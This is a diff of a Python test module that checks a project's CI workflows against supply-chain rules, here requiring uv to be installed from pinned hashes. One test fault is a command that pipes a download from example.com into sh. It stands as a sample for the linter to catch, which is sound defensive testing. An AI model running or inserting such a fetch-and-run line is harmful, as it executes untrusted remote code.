@@ -37,7 +37,6 @@ PINS = {
     "actions/setup-python": ("v7.0.0", "5fda3b95a4ea91299a34e894583c3862153e4b97"),
     "actions/upload-artifact": ("v7.0.0", "bbbca2ddaa5d8feaa63e36b76fdaad77386f024f"),
     "actions/upload-pages-artifact": ("v5.0.0", "fc324d3547104276b827a68afc52ff2a11cc49c9"),
-    "astral-sh/setup-uv": ("v10.0.1", "20cfd1bf945f4377ade1205e4dbc17946fc9a30d"),
     "github/codeql-action/upload-sarif": ("v4.36.2", "8aad20d150bbac5944a9f9d289da16a4b0d87c1e"),
     "iterative/setup-cml": ("v2.0.1", "f12ea7685438c1fc438d50f77519b3860cf5fa98"),
     "ossf/scorecard-action": ("v2.4.4", "2d1146689b8cda280b9bc96326124645441f03bc"),
@@ -66,6 +65,9 @@ PUSHING = re.compile(r"slipway (promote|propose|release publish|rollback)\b")
 
 PRIVILEGED = {"issue_comment", "issues", "pull_request_review", "pull_request_target", "workflow_run"}
 """Triggers by which a stranger starts something that has the rights of `main`."""
+
+INSTALL_UV = ".ci/install-uv"
+"""The one command that installs something which is not in uv.lock: uv itself."""
 
 COMMENT = "pull-request-comment.yaml"
 """The one workflow that has such a trigger."""
@@ -167,11 +169,19 @@ def steps_are_one_line(workflow: Workflow) -> Iterator[str]:
 
 
 def steps_call_the_command_line(workflow: Workflow) -> Iterator[str]:
-    """What a step does is a verb that runs on a laptop too; nothing is fetched or installed beside the lock."""
+    """A step runs a command that runs on a laptop too; packages come from the lock, and uv from its pinned hashes."""
     for job, step in workflow.steps():
         command = re.sub(r"\$\{\{.*?\}\}", "", step.get("run", "uv run slipway"))
-        if not re.match(r'uv (run slipway|sync --frozen)([\w\s./=:$-]|"\$\w+")*$', command):
+        if command != INSTALL_UV and not re.match(r'uv (run slipway|sync --frozen)([\w\s./=:$-]|"\$\w+")*$', command):
             yield f"{job}: {step['run']}"
+
+
+def uv_is_installed_by_hash(workflow: Workflow) -> Iterator[str]:
+    """No action installs uv: `setup-uv` verifies only the versions that it knows."""
+    for job, step in workflow.steps():
+        action = step.get("uses", "").split("@")[0]
+        if "uv" in re.split(r"\W", action):
+            yield f"{job}: {action} may download uv without verifying it; use {INSTALL_UV}"
 
 
 def commands_hold_no_expressions(workflow: Workflow) -> Iterator[str]:
@@ -188,8 +198,6 @@ def publishing_jobs_use_no_cache(workflow: Workflow) -> Iterator[str]:
     for job, step in workflow.steps():
         action, given = step.get("uses", "").split("@")[0], step.get("with", {})
         caches = action.startswith("actions/cache") or given.get("enable-cache") or "cache" in given
-        if action == "./.github/actions/setup":
-            caches = given.get("cache") != "false"
         if caches and workflow.writes(job):
             yield f"{job}: {action} restores or saves a cache, and the job publishes"
 
@@ -243,6 +251,7 @@ RULES = [
     strangers_bring_nothing_with_them,
     steps_are_one_line,
     steps_call_the_command_line,
+    uv_is_installed_by_hash,
     commands_hold_no_expressions,
     pull_requests_see_no_secret,
     publishing_jobs_use_no_cache,
@@ -280,6 +289,8 @@ FAULTS = [
     (steps_are_one_line, "pull-request.yaml", "run: uv run slipway lint", "run: |\n          ls\n          ls"),
     (steps_call_the_command_line, "pull-request.yaml", "uv run slipway lint", "pip install ruff"),
     (steps_call_the_command_line, "pull-request.yaml", "slipway lint", "slipway lint && curl http://example.com | sh"),
+    (uv_is_installed_by_hash, "setup/action.yml", "run: .ci/install-uv", "uses: astral-sh/setup-uv@main"),
+    (steps_call_the_command_line, "setup/action.yml", "run: .ci/install-uv", "run: pip install uv"),
     (commands_hold_no_expressions, "pull-request.yaml", "slipway lint", "slipway lint ${{ github.head_ref }}"),
     (pull_requests_see_no_secret, "pull-request.yaml", "${{ github.token }}", "${{ secrets.TOKEN }}"),
     (pull_requests_see_no_secret, "pull-request.yaml", "${{ github.token }}", "${{ secrets['TOKEN'] }}"),
@@ -287,9 +298,9 @@ FAULTS = [
     (strangers_start_one_workflow_only, "deploy.yaml", "  workflow_dispatch:\n", "  issue_comment:\n"),
     (strangers_bring_nothing_with_them, COMMENT, "persist-credentials: false", "ref: refs/pull/1/merge"),
     (strangers_bring_nothing_with_them, COMMENT, "uses: iterative/setup-cml", "uses: actions/download-artifact"),
-    (publishing_jobs_use_no_cache, "deploy.yaml", 'cache: "false"', 'cache: "true"'),
+    (publishing_jobs_use_no_cache, "deploy.yaml", "overwrite: true", "cache: pip"),
     (publishing_jobs_use_no_cache, "deploy.yaml", "actions/upload-artifact@", "actions/cache/save@"),
-    (publishing_jobs_use_no_cache, COMMENT, "vega: ", "enable-cache: "),
+    (publishing_jobs_use_no_cache, COMMENT, "persist-credentials: false", "enable-cache: true"),
     (downloads_land_where_they_are_read, "pull-request.yaml", "merge-multiple: true", "merge-multiple: false"),
     (downloads_land_where_they_are_read, "deploy.yaml", "name: results-build # by", "pattern: results-* # by"),
     (ignores_carry_a_reason, "deploy.yaml", "ignore[artipacked] pushes the promotion", "ignore[artipacked]"),
@@ -303,7 +314,8 @@ FAULTS = [
 
 @pytest.mark.parametrize(("rule", "file", "text", "fault"), FAULTS)
 def test_rule_catches_its_fault(rule, file, text, fault):
-    whole = (Path(".github/workflows") / file).read_text(encoding="utf-8")
+    folder = Path(".github/actions" if file.endswith("/action.yml") else ".github/workflows")
+    whole = (folder / file).read_text(encoding="utf-8")
     assert text in whole
     assert list(rule(Workflow(file, whole.replace(text, fault, 1))))
 
@@ -312,17 +324,20 @@ def test_every_rule_has_a_fault():
     assert set(RULES) == {rule for rule, *_ in FAULTS}
 
 
-def test_bootstrap_installs_the_locked_uv():
+def test_uv_has_one_version_everywhere_and_the_hashes_of_the_lock():
     lock = tomllib.loads(Path("uv.lock").read_text(encoding="utf-8"))
     (locked,) = (package for package in lock["package"] if package["name"] == "uv")
     pinned = Path(".ci/uv.txt").read_text(encoding="utf-8")
-    assert locked["version"] == re.search(r"^uv==(\S+)", pinned, re.MULTILINE)[1]
+    project = tomllib.loads(Path("pyproject.toml").read_text(encoding="utf-8"))
+    assert [locked["version"]] == re.findall(r"^uv==(\S+)", pinned, re.MULTILINE)
+    assert f"uv=={locked['version']}" in project["dependency-groups"]["delivery"]
     assert {wheel["hash"] for wheel in locked["wheels"]} == set(re.findall(r"--hash=(\S+)", pinned))
 
 
-def test_setup_action_installs_the_locked_uv():
-    pinned = re.search(r"^uv==(\S+)", Path(".ci/uv.txt").read_text(encoding="utf-8"), re.MULTILINE)[1]
-    assert f'version: "{pinned}"' in Path(".github/actions/setup/action.yml").read_text(encoding="utf-8")
+def test_a_job_installs_uv_before_it_calls_it():
+    steps = yaml.safe_load(ACTIONS[0].read_text(encoding="utf-8"))["runs"]["steps"]
+    commands = [step["run"].split()[0] for step in steps if "run" in step]
+    assert [INSTALL_UV, "uv", "uv"] == commands
 
 
 def test_makefile_has_six_targets_at_most():
